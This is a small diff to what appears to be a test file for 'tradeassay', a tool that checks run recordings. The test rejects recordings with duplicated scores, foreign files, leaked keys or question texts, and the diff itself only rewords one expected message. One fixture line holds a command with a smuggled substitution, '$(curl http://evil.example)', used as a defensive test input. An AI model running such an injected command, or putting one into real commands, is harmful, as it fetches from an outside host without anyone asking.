@@ -193,7 +193,7 @@ NOT_OURS = "is not one of tradeassay alone"
         (said_on_the_label(command="tradeassay record $(curl http://evil.example)"), NOT_OURS),
         (scores_twice, "scores.json says one thing twice"),
         (words_among_versions, "its manifest names a version 'what somebody else wrote'"),
-        (foreign_file, "news.txt is no part of a recording"),
+        (foreign_file, "news.txt is not part of a recording"),
         (answer_to_nothing, "answers, and its run asked"),
         (key_in_an_answer, "holds what looks like a key"),
         (text_of_a_question, "holds texts that the model was asked"),
